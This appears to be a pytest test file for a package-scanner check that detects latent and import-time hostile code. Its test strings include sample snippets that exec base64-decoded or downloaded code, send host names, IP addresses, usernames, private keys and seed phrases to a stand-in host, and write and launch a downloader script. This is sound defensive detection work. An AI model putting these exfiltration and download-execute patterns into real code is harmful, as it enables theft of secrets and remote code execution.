"""What a module would do if it were called: found under a stage of its own, apart from what runs by itself.

Payloads only print, and addresses are of domains that can never exist.
"""

from __future__ import annotations

import base64

import pytest

from wharfinger_daemon.checks.eager_code import EagerCodeCheck
from wharfinger_daemon.scanning.model import Subject, SubjectKind
from wharfinger_daemon.scanning.plugin import ArtifactFormat, Member, ScanContext

PRINTED = base64.b64encode(b"print('hello')").decode()


def rules(source: str, name: str = "pkg/module.py") -> set[str]:
    check = EagerCodeCheck()
    check.begin(ScanContext(Subject(SubjectKind.FILE, "pkg", "1.0", "pkg-1.0.tar.gz"), ArtifactFormat.SDIST, 1000))
    return {evidence.rule for evidence in check.member(Member(name, source.encode()))}


LATENT = {
    "decoded": (f"import base64\ndef f():\n    exec(base64.b64decode('{PRINTED}'))", "decoded-execution"),
    "in a method": (
        f"import base64\nclass A:\n    def f(self):\n        exec(base64.b64decode('{PRINTED}'))",
        "decoded-execution",
    ),
    "downloaded": (
        "import requests\ndef f(url):\n    exec(requests.get(url).text)",
        "download-execution",
    ),
    "under the guard of programs": (
        "import urllib.request\n"
        "if __name__ == '__main__':\n"
        "    exec(urllib.request.urlopen('https://example.invalid/').read())",
        "download-execution",
    ),
    "host name sent": (
        "import socket, requests\n"
        "def f():\n    requests.post('https://example.invalid/', json={'h': socket.gethostname()})",
        "exfiltration",
    ),
    "own address looked up and sent": (
        "import requests\n"
        "def f():\n"
        "    where = requests.get('https://api.ipify.org').text\n"
        "    requests.post('https://example.invalid/', data=where)",
        "exfiltration",
    ),
    "user name out of a variable": (
        "import os, requests\ndef f():\n    requests.post('https://example.invalid/', data=os.getenv('USERNAME'))",
        "exfiltration",
    ),
    "function in a function": (
        f"import base64\ndef f():\n    def g():\n        exec(base64.b64decode('{PRINTED}'))",
        "decoded-execution",
    ),
}


@pytest.mark.parametrize(("source", "rule"), LATENT.values(), ids=LATENT.keys())
def test_what_is_only_defined_is_found_as_latent(source: str, rule: str) -> None:
    assert {f"latent-{rule}"} == rules(source) - {"latent-hidden-execution"}


def test_a_command_that_stands_encoded_in_the_source_is_told_from_decoded_data() -> None:
    hidden = f"import base64, os\ndef f():\n    os.system(base64.b64decode('{PRINTED}').decode())"
    handed = "import base64, os\ndef f(image):\n    os.startfile(base64.b64decode(image))"
    assert {"latent-decoded-execution", "latent-hidden-execution"} == rules(hidden)
    assert {"latent-decoded-execution"} == rules(handed)


def test_documentation_beside_the_package_is_not_run_by_an_import() -> None:
    source = "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/conf').read())"
    assert {"aside-behaviour"} == rules(source, "pkg-1.0/doc/conf.py")
    assert "import-download-execution" in rules(source, "pkg-1.0/pkg/conf.py")
    assert "import-download-execution" in rules(source, "pkg-1.0/pkg/docs/conf.py")


def test_what_runs_by_itself_is_not_latent_as_well() -> None:
    source = f"import base64\ndef f():\n    exec(base64.b64decode('{PRINTED}'))\nf()"
    assert {"import-decoded-execution"} == rules(source)


def test_tests_and_examples_have_no_latent_code() -> None:
    source, _ = LATENT["decoded"]
    assert set() == rules(source, "pkg-1.0/tests/module.py")
    assert set() == rules(source, "pkg-1.0/pkg/test_module.py")


QUIET = {
    "download": "import requests\ndef f(url):\n    return requests.get(url).json()",
    "upload": "import requests\ndef f(url, data):\n    requests.post(url, json=data)",
    "decoder": "import base64\ndef f(text):\n    return base64.b64decode(text).decode()",
    "interpreter": "def f(source):\n    exec(compile(source, 'x', 'exec'), {})",
    "installer": "import subprocess, sys, urllib.request\n"
    "def f(name):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', name])",
    "host name in a log": "import logging, socket\ndef f():\n    logging.info(socket.gethostname())",
    "key that signs": "import hmac, requests\n"
    "def f(private_key, body):\n"
    "    requests.post('https://example.invalid/', headers={'S': hmac.new(private_key, body).hexdigest()})",
    "length of a key": "import requests\n"
    "def f(private_key):\n    requests.post('https://example.invalid/', json={'bits': len(private_key)})",
    "connection to one's own host name": "import socket\n"
    "def f():\n    socket.create_connection((socket.gethostname(), 80))",
    "message queue": "def f(connection):\n    exec(connection.recv())",
    "checksum by exclusive or": "def f(data):\n    return bytes(b ^ 0x5A for b in data)",
}


@pytest.mark.parametrize("source", QUIET.values(), ids=QUIET.keys())
def test_look_alikes_in_libraries_are_quiet(source: str) -> None:
    assert set() == rules(source)


def test_a_private_key_that_is_sent_as_it_is_is_found() -> None:
    source = (
        "import requests\n"
        "def from_key(private_key):\n"
        "    requests.post('https://example.invalid/', json={'k': private_key})\n"
    )
    assert {"latent-key-disclosure"} == rules(source)


def test_a_seed_phrase_in_an_attribute_is_found() -> None:
    source = (
        "import requests\ndef store(wallet):\n    requests.post('https://example.invalid/', data=wallet.seed_phrase)\n"
    )
    assert {"latent-key-disclosure"} == rules(source)


@pytest.mark.parametrize(
    "source",
    [
        "data = [1, 2, 3]\nexec(''.join(chr(c - key) for c in read()))",
        "exec(bytes(b ^ 0x5A for b in blob))",
    ],
)
def test_code_that_is_spelled_by_arithmetic_is_found_where_its_text_cannot_be_known(source: str) -> None:
    assert "import-decoded-execution" in rules(source)


def test_a_script_that_is_written_and_then_started_is_followed() -> None:
    source = (
        "import subprocess, sys\n"
        "with open('helper.py', 'w') as f:\n"
        "    f.write('import urllib.request\\nexec(urllib.request.urlopen(\"https://example.invalid/\").read())')\n"
        "subprocess.Popen([sys.executable, 'helper.py'])\n"
    )
    assert "import-download-execution" in rules(source)
